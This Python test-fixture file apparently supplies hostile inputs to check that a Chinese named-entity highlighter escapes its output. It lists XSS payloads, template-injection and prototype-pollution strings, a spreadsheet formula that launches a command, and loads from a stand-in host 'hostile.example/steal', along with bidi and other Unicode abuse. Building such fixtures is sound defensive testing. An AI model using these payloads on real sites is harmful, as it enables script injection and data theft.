"""Texts that want to be more than text, by what each tries. 马云 or 杭州 is found in every one."""

from __future__ import annotations

KNOWN = "马云在杭州出席了技术峰会。"
# What a text that is executed would do: the tests look for it.
RUN = "window.hacked=1"
ELSEWHERE = "http://hostile.example/steal"

MARKUP = {
    "script": f"<script>{RUN}</script>{KNOWN}",
    "script that closes another": f"</script><script>{RUN}</script>{KNOWN}",
    "script in capitals, unclosed": f"{KNOWN}<SCRIPT SRC={ELSEWHERE}.js",
    "script around the entity": f"<script>马云{RUN}</script>在杭州。",
    "script in a textarea": f"</textarea><script>{RUN}</script>{KNOWN}",
    "script behind a title": f"</title><script>{RUN}</script>{KNOWN}",
    "script with a null byte in it": f"<scr\0ipt>{RUN}</scr\0ipt>{KNOWN}",
    "script of a module": f'<script type="module">import "{ELSEWHERE}.js"</script>{KNOWN}',
    "onerror of an image": f'<img src=x onerror="{RUN}">{KNOWN}',
    "onerror, broken quotes": f'"><img src=`x` onerror=`{RUN}`>{KNOWN}',
    "onload of SVG": f'<svg onload="{RUN}"><text>{KNOWN}</text></svg>',
    "script in SVG": f'<svg><script href="data:text/javascript,{RUN}"/><script>{RUN}</script></svg>{KNOWN}',
    "animation in SVG": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/>{KNOWN}</a></svg>',
    "foreign object in SVG": f'<svg><foreignObject><iframe src="javascript:{RUN}"/></foreignObject></svg>{KNOWN}',
    "style in MathML": f"<math><mtext><style><img src onerror={RUN}></style></mtext></math>{KNOWN}",
    "autofocus and onfocus": f'<input autofocus onfocus="{RUN}"><select onfocus={RUN} autofocus>{KNOWN}',
    "ontoggle of open details": f'<details open ontoggle="{RUN}"><summary>{KNOWN}</summary></details>',
    "onmouseover over the entity": f'<b onmouseover="{RUN}" style="position:fixed;inset:0">{KNOWN}</b>',
    "pointer event attribute inside a mark": f'<mark class="entity" onpointerenter="{RUN}">马云</mark>在杭州。',
    "iframe of a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>{KNOWN}',
    "object and embed": f'<object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}">{KNOWN}',
    "base, which turns all links": f'<base href="{ELSEWHERE}/">{KNOWN}',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">{KNOWN}',
    "link to a style sheet": f'<link rel="stylesheet" href="{ELSEWHERE}.css">{KNOWN}',
    "form that sends elsewhere": f'<form action="{ELSEWHERE}"><button autofocus>{KNOWN}</button></form>',
    "template": f"<template><img src=x onerror={RUN}></template>{KNOWN}",
    "declarative shadow root": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>{KNOWN}",
    "nested marks": "<mark><mark class='entity entity-org'>马<mark>云</mark></mark>在<mark>杭州</mark></mark>。",
    "marks that are closed too often": f"</mark></div></section></main>{KNOWN}",
    "an id of the page's own": f'<p id="output" data-rendered="true"></p><b id="run" name="body">{KNOWN}</b>',
    "comment that is not closed": f"<!-- {KNOWN}",
    "CDATA": f"<![CDATA[<script>{RUN}</script>]]>{KNOWN}",
    "processing instruction": f'<?xml version="1.0"?><?php echo 1 ?>{KNOWN}',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#x3c;b&#62; &nbsp;&zwj;&#0; {KNOWN}",
    "entity in the middle of the name": "马&#8203;云，马云，&lt;马云&gt;在杭州。",
}
ADDRESSES = {
    "javascript link": f'<a href="javascript:{RUN}">{KNOWN}</a>',
    "javascript link with a tab in it": f'<a href="java\tscript:{RUN}">{KNOWN}</a> javascript:{RUN}//',
    "data link": f'<a href="data:text/html,<script>opener.{RUN}</script>">{KNOWN}</a>',
    "markdown": f"[{KNOWN}](javascript:{RUN}) ![x]({ELSEWHERE}.png) `{RUN}` **马云** <{ELSEWHERE}>",
}
STYLES = {
    "style element": f"<style>*{{display:none!important}}</style>{KNOWN}",
    "style attribute over everything": f'<div style="position:fixed;inset:0;z-index:9999;background:red">{KNOWN}</div>',
    "style that fetches": f"<style>@import '{ELSEWHERE}.css';body{{background:url({ELSEWHERE}.png)}}</style>{KNOWN}",
    "style that expands": f"</style>}}}}body{{margin:-9999px}}*::after{{content:'x'}} {KNOWN}",
}
TEMPLATES = {
    "Jinja": f"{{{{ config.items() }}}}{{% for x in y %}}{KNOWN}{{% endfor %}}{{# 杭州 #}}",
    "Angular and Vue": f"{{{{constructor.constructor('{RUN}')()}}}} <b v-html=\"'{RUN}'\">{KNOWN}</b>",
    "JavaScript template": f"${{{RUN}}}`${{`${{{RUN}}}`}}` {KNOWN}",
    "replacement patterns": f"$& $1 $` $' $$ \\1 \\u003cscript\\u003e %s %(x)s {{0}} {{name}} {KNOWN}",
    "prototype": f"__proto__ constructor toString hasOwnProperty {KNOWN}",
    "JSON that ends": f'"}}],"results":[{{"entities":[{{"text":"<b>","type":"<b>"}}]}} {KNOWN}',
    "formula": f'=HYPERLINK("{ELSEWHERE}","马云")+cmd|\'/c calc\'!A1，{KNOWN}',
}
DIRECTIONS = {
    "right-to-left override": f"\u202e{KNOWN}\u202c反转",
    "right-to-left override that is never ended": f"马云\u202e在杭州出席了\u202e会议。{KNOWN}",
    "embeddings by the hundred": "\u202b" * 150 + KNOWN + "\u202d" * 150,
    "isolates that do not match": f"\u2069\u2069\u2066马云\u2067在\u2068杭州。{KNOWN}\u2067",
    "marks of direction in the sentence": "\u200f马云\u200e在\u061c杭州\u200f出席了技术峰会。",
    "Arabic and Hebrew around": f"مرحبا بالعالم {KNOWN} שלום עולם 马云",
}
CHARACTERS = {
    "zero-width characters between": f"\u200b马云\u200b在\u2060杭州\ufeff出席了会议。{KNOWN}",
    "zero-width characters inside the name": f"马\u200b云在杭\u200d州。{KNOWN}",
    "byte order marks": f"\ufeff\ufeff{KNOWN}\ufffe\uffff",
    "null bytes": f"\0{KNOWN}\0\0马云\0",
    "control characters": "".join(map(chr, [*range(1, 10), 11, 12, *range(14, 32), 127, *range(128, 160)])) + KNOWN,
    "bells and escapes of a terminal": f"\x1b[2J\x1b]0;hacked\x07\x1b[31m{KNOWN}\x1b[0m",
    "lone high surrogate before the name": f"\ud83d{KNOWN}",
    "lone low surrogate behind the name": "马云\ude00在杭州\ude00。",
    "surrogates the wrong way round": f"\ude00\ud83d{KNOWN}\ud83d",
    "a lone surrogate at either end": f"\udfff{KNOWN}\ud800",
    "line separators": f"{KNOWN}\u2028{KNOWN}\u2029{KNOWN}\u0085{KNOWN}\x0b{KNOWN}\x0c",
    "line breaks, tabs and spaces": f"\n\n\n\t\t{KNOWN}   \n \n\u3000\u3000{KNOWN}\u00a0\n",
    "only spaces before": " " * 500 + KNOWN + "\n" * 100,
    "emoji joined by zero-width joiners": f"👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍💻🧑🏿‍🤝‍🧑🏻{KNOWN}👨‍👩‍👧‍👦马云🇨🇳🇨",
    "ideographic variation selectors": f"葛\U000e0100城区，辻\U000e0101，马\ufe00云\U000e0102在杭州。{KNOWN}",
    "tags that nobody sees": f"🏴\U000e0067\U000e0062\U000e007f{KNOWN}\U000e0041",
    "rare ideographs": f"𠮷𡘙𪚥𬺰龘{KNOWN}𰻝𰻝面",
    "private use and unassigned": f"\ue000\U000f0000\U0010ffff{KNOWN}\u0378",
    "thousands of combining marks": "Z" + "\u0301\u0334\u0489" * 1_000 + KNOWN + "e" + "\u20dd" * 2_000,
    "combining marks on the name": "马\u0301\u0334云\u0301在杭\u0489州。" + KNOWN,
    "one very long word": "a" * 5_000 + KNOWN,
    "one very long number": KNOWN + "9" * 5_000,
    "a very long line without any break": "\u2060".join("非断行" * 600) + KNOWN,
    "no-break spaces without end": "\u00a0" * 3_000 + KNOWN,
    "ligatures and wide forms": f"﷽﷽﷽\u2e3b\u2e3b𒐫𒐫꧅{KNOWN}ﬃ㍻㍿",
    "full-width and compatibility forms": f"＜ｓｃｒｉｐｔ＞{RUN}＜／ｓｃｒｉｐｔ＞{KNOWN}⼀⾺雲",
    "Korean letters that pile up": "각ᄀᄀᄀᆨᆨᆨ" * 100 + KNOWN,
    "Thai and Tibetan that pile up": "ก็็็็็็็็็็็็็็็็็็็็ཧྐྵྨླྺྼྻྂ" * 20 + KNOWN,
    "the same entity many times": "马云杭州" * 200,
}
HOSTILE_TEXTS = {**MARKUP, **ADDRESSES, **STYLES, **TEMPLATES, **DIRECTIONS, **CHARACTERS}
